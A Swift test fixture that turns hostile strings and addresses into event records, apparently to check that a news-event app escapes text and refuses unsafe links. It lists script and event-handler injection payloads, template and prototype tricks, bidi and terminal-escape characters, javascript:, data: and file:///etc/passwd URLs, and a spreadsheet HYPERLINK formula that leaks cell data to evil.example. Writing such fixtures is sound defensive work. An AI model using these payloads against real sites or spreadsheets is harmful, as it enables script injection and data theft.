import Archive
import Model

/// Events as a page made by an enemy would have them: each tries to be something else than text.
enum HostileEvents {
    /// What is tried.
    static let texts = [
        "</script><script>window.hacked = 1</script>",
        "<img src=x onerror=\"window.hacked = 2\">",
        "<!--<script>window.hacked = 3",
        "\" autofocus onfocus=\"window.hacked = 4\" x=\"",
        "' onmouseover='window.hacked = 5' x='",
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
        "{{constructor.constructor('window.hacked = 6')()}} ${window.hacked = 7} javascript:window.hacked=8",
        "cod\u{202E}gpj.exe \u{2066}isolated\u{2069} \u{200F}marked \u{1B}]0;title\u{7}\u{1B}[31m",
        "<svg/onload=window.hacked=9><a href=javascript:window.hacked=10>x</a><iframe srcdoc=\"<script>top.hacked=11</script>\">",
        "__proto__",
        "constructor",
        String(repeating: "Unbroken", count: 60),
    ]

    /// Addresses, of which none may become a link.
    static let addresses = [
        "javascript:window.hacked=12//https://news.example/", "JaVaScRiPt:window.hacked=13",
        "data:text/html,<script>1</script>",
        " https://news.example/", "https://good.example@evil.example/", "https://news.example/\u{202E}gpj.exe",
        "file:///etc/passwd", "//evil.example/", "https://news.example/\" onclick=\"window.hacked=14", "vbscript:x",
        "http:evil", "",
    ]

    /// An event of each; their days lie in a year of their own.
    static let year = 1999

    static var all: [Event] {
        zip(texts, addresses).enumerated().map { number, pair in
            let (text, address) = pair
            let position = Position(start: 0, end: 1)
            let mention = NamedMention(text: text, name: text, position: position)
            return Event(
                id: "ev-hostile\(number)",
                happening: Happening(
                    title: text, text: "\(text) and so on.", kind: .award,
                    date: CivilDate(year: year, month: number + 1, day: 5).map {
                        EventDate(interval: Interval(day: $0), text: text, basis: text)
                    },
                    sections: [Section(number: "1.", label: "1", heading: text)],
                    quantities: [Quantity(text: text, value: 1, unit: text, position: position)],
                    organizations: [mention], places: [mention],
                    position: Position(start: 0, end: text.unicodeScalars.count + 11)),
                source: SourceReference(
                    url: address, title: text, publisher: text, published: text,
                    page: "sha256:\(String(repeating: "0", count: 64))"), rules: "2026.1")
        }
    }

    /// A further report of the first one.
    static var sightings: [Sighting] {
        texts.map { text in
            Sighting(
                event: "ev-hostile0",
                source: SourceReference(
                    url: "javascript:window.hacked=15//\(text)", title: text,
                    page: "sha256:\(String(repeating: "1", count: 64))"),
                position: Position(start: 0, end: 1), rule: text, score: 0.5, reasons: [text], text: text,
                rules: "2026.1")
        }
    }
}
